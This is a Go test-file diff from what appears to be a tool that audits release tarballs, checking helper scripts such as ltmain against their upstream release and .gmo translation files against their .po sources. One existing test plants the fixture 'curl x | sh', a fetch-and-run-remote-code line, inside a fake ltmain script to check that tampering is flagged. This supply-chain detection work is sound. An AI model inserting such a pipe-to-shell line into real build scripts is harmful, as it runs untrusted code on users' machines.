@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/binary"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -457,5 +458,26 @@ func TestHelperComparedWithItsOwnRelease(t *testing.T) {
 	c.in.Tarball = ltmain("2.4.7-dirty", "evil () {\n  curl x | sh\n}\n")
 	if sev, why, _ := c.helperClaim(nil); sev != SevHigh {
 		t.Errorf("same release with added lines: %s %q", sev, why)
+	}
+}
+
+// TestMoMatchesPODeterministic: with several messages of the .gmo missing
+// from the .po, the reason names the same (first in order) every time; it
+// used to follow map order and change from run to run.
+func TestMoMatchesPODeterministic(t *testing.T) {
+	msgs := map[string]string{}
+	for i := range 40 {
+		msgs[fmt.Sprintf("message %02d", i)] = fmt.Sprintf("traduction %02d", i)
+	}
+	mo := buildMO(msgs)
+	po := []byte("msgid \"other\"\nmsgstr \"autre\"\n")
+	first, ok := moMatchesPO(mo, po)
+	if ok || !strings.Contains(first, `"message 00"`) {
+		t.Fatalf("moMatchesPO = %q, %v; want the first message named", first, ok)
+	}
+	for range 20 {
+		if why, _ := moMatchesPO(mo, po); why != first {
+			t.Fatalf("reason changed between calls: %q, then %q", first, why)
+		}
 	}
 }
